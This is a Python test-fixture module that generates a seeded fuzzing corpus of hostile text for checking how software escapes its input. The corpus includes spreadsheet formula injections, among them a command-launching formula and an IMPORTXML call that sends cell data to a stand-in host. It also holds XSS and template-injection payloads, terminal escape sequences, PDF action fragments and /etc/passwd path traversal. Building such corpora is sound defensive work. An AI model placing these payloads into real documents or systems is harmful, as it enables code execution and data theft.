"""Five thousand texts that would act, hide or break something, if words could; always the same.

Each kind of trouble stands alone first; the others are put together from all kinds by a seed.
"""

from collections.abc import Iterator
from random import Random

CORPUS = 5_000
NAME = "김민수"
"""A person of every hostile case, whose name stands in many of the texts, also in parts."""

CONTROLS = (
    *(f"a{chr(code)}b" for code in (*range(0x20), *range(0x7F, 0xA0))), "\x00", "\x7f", "\r\n",
    "\n", "\n\n# head\n\n", "one\ntwo\r\nthree\n", "\ttab", "a\x0bb\x0cc", "\x1b[31mred\x1b[0m",
    "\x1b]52;c;aGk=\x07", "\x1b]8;;http://e.example\x1b\\x\x1b]8;;\x1b\\", "\x9b31m",
    "\x1bP+q\x1b\\", "\x1b[2J\x1b[H", "\u2028", "a\u2028b\u2029c\x85d",
)  # fmt: skip
UNSEEN = (
    "\u202egpj.exe", "\u202aa\u202bb\u202c", "\u2066ltr\u2067rtl\u2068first\u2069", "\u061c",
    "z\u200be\u200cr\u200do", "\u200e\u200f", "\ufeffmark", "w\u2060o\u2061r\u2064d",
    "so\u00adft", "\ud800", "x\udfffy", "\udcff", "\ufffe\uffff", "\ufdd0", "\U0010ffff",
    "\ue000\uf8ff", "\U000e0041\U000e0042\U000e007f", "\ufff9ruby\ufffa\ufffb", "\u3164\u115f",
    "\u034f", "  two  blanks  ", "\u3000wide\u3000", "\xa0kept\xa0", "\u2003em", " ", "\t",
    "\u1680",
)  # fmt: skip
FORMULAS = (
    "=1+1", "+1", "-1", "@SUM(A1)", "|calc", "%0A=1", "\t=1", "\r=1", "\n=1", '"=1', "'=1",
    ";=1+1", "x;=1+1", "x\t=1", "x\n@b", ",=1", "＝1+1", "＋1", "－1", "＠a", "−1", "⁻1", "﹦1",
    " =1", "\u200b=1", "\xa0=1", "\x00=1", "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://e.example","x")', "=IMPORTXML(CONCAT(\"http://e.example/\",A1),\"//a\")",
    "a,b", 'a"b', '""', '"', "'", "''", ";",
)  # fmt: skip
TAGS = (
    "<script>alert(1)</script>", "</p></td></li><script>alert(1)</script>", "</title><script>x",
    "</style><style>*{display:none}</style>", '"><img src=http://e.example/x onerror=alert(1)>',
    "' onmouseover='alert(1)", '" autofocus onfocus="x', "<a href=javascript:alert(1)>x</a>",
    "<iframe src=//e.example>", "<svg onload=alert(1)>", "<meta http-equiv=refresh content=0>",
    "<base href=//e.example>", "<!-- hidden -->", "<!--", "-->", "<![CDATA[x]]>", "<?php x ?>",
    "<!doctype x>", "&lt;b&gt;", "&#60;b&#62;", "&amp;", "&notit;", "&", "&#x0;", "&quot;", "<",
    ">", "<b", "</", "<br/>", "<details open ontoggle=alert(1)>", "`<b>`", "javascript:alert(1)",
    "data:text/html,<script>x</script>", "{{ 7*7 }}", "{% raw %}", "{# x #}", "${7*7}", "%(x)s",
    "{n}", "{0}", "{what!r:>{0}}", "%s%n", "[bold]x[/]", "[/", "[@click=app.boom]x[/]",
)  # fmt: skip
MARKDOWN = (
    "[x](javascript:alert(1))", "[x](http://e.example \"t\")", "![x](http://e.example/p.png)",
    "[x]: http://e.example", "[x][y]", "[^1]", "[^1]: note", "<http://e.example>",
    "<a@e.example>", "https://e.example/a_b_c", "www.e.example", "ftp://e.example",
    "HTTP://e.example", "# head", "###### head ######", "head\n====", "head\n----", "===", "---",
    "***", "___", "- item", "+ item", "* item", "1. one", "2) two", "123456789. x", "- [ ] task",
    "> quote", ">>", "```\ncode\n```", "~~~\ncode", "`code`", "``a`b``", "    indented",
    "\tindented", "a | b || c \\| d", "| a | b |", "|---|:-:|", ":-: | ---", "**bold**",
    "__bold__", "*it*", "_it_", "***both***", "~~gone~~", "a\\", "\\", "\\\\", "\\*",
    "line  \nbreak", "<div>\n\nblock\n\n</div>", "&nbsp;", "$x^2$", "$$x$$", ": term",
    "term\n: means", "*[HTML]: x", ":smile:", "==mark==", "a~b~c", "x^y^",
)  # fmt: skip
CALENDARS = (
    "a\\nb", "a\\,b\\;c\\\\d", "BEGIN:VEVENT", "\r\nEND:VEVENT\r\nEND:VCALENDAR", "END:VCALENDAR",
    "x\r\nATTACH:http://e.example", "\nURL:http://e.example\n", "X:Y;Z=1:2", "\r\n folded",
    'CN="a":mailto:b@e.example', "^n^'^^", ";VALUE=URI:http://e.example", "TZID=Mars/Base:",
)  # fmt: skip
PAGES = (
    "<para>x</para>", '<img src="http://e.example/x.png"/>', '<a href="http://e.example">x</a>',
    '<font color="white">x</font>', "<b>x</b>", "<br/>", "&lt;para&gt;", ") Tj ET", "(x) Tj",
    "\\)", "/JS (x)", "<< /S /URI /URI (http://e.example) >>", "endstream endobj", "%PDF-1.7",
    "%%EOF", "/Launch", "\\050\\101", "<FEFF0041>", "]TJ",
)  # fmt: skip
PLACES = (
    "../../etc/passwd", "..", "/", "C:\\new", "\\\\server\\note", "a/b", "~",
    "file:///etc/passwd", "CON", ".hidden", "x\x00.csv",
)  # fmt: skip
LETTERS = (
    NAME, f"{NAME} 기사님", "김 기사", "\u1100\u1175\u11b7\u1106\u1175\u11ab\u1109\u116e",
    "김\u200b민수", "김 민 수", "ㄱㅏㄱ", "인터넷이 안 돼요",
    "\u1112\u1161\u11ab\u1100\u1173\u11af", "漢字 かな", "שלום עולם", "مرحبا بالعالم", "ابجد 123",
    "नमस्ते", "ไทย", "Ωδή", "Łódź naïve", "e\u0301\u0302\u0323",
    "Z\u0351\u0357\u035ba\u0363\u0366l\u0368go", "\u0301 alone", "ﬁ ﬀ ㎏ ①", "👩\u200d👩\u200d👧",
    "🏳\ufe0f\u200d🌈 🇰🇷", "👍🏽", "1\ufe0f\u20e3", "‘q’ “q” „q“ «q»", "…", "–", "—", "→", "€ ₩ ¥",
    "𝕬𝖇𝖈", "％＆＃", "010-1234-5678", "a.b@e.example", "4111 1111 1111 1111", "*2", "!visit",
    "+p1", "?p1", '"q"@kim', "// felt", "#tag", "@kim", "ref:A7", "x3", "\\u{41}", "# comment",
    "## 2026-03-02", "title: x", "accept: a | b",
)  # fmt: skip
LONG = (
    "x" * 3000, "가" * 2000, "*" * 400, "`" * 400, "_" * 300, "[" * 300, "<" * 300, "&" * 300,
    "\\" * 301, "=" * 300, "word " * 300, "a\u0301" * 300, "'" * 200, '"' * 200, "|" * 200,
    "\u202e" * 100, "\n" * 200, "- " * 100, "> " * 100, "👩\u200d👩\u200d👧" * 60,
    "x" * 74 + "한" * 3, "é" * 80, "a," * 200, "\\n" * 200,
)  # fmt: skip
KINDS = (
    CONTROLS, UNSEEN, FORMULAS, TAGS, MARKDOWN, CALENDARS, PAGES, PLACES, LETTERS,
)  # fmt: skip
_BETWEEN = (
    "", "", " ", "\n", "\t", ", ", "; ", "\u200b", " x ", "\r\n", "\u3000",
)  # fmt: skip


def corpus(many: int = CORPUS) -> list[str]:
    """So many different texts, the same in every run; the first of them are of one kind each."""
    found = dict.fromkeys(text for kind in (*KINDS, LONG) for text in kind)
    found.pop("", None)
    made = _made(Random(20260309))
    while len(found) < many:
        found.setdefault(next(made))
    return [*found][:many]


def _made(chance: Random) -> Iterator[str]:
    while True:
        between = chance.choice(_BETWEEN)
        parts = [chance.choice(chance.choice(KINDS)) for _ in range(chance.randint(2, 4))]
        if chance.random() < 0.01:
            parts.append(chance.choice(LONG))
        yield between.join(parts)
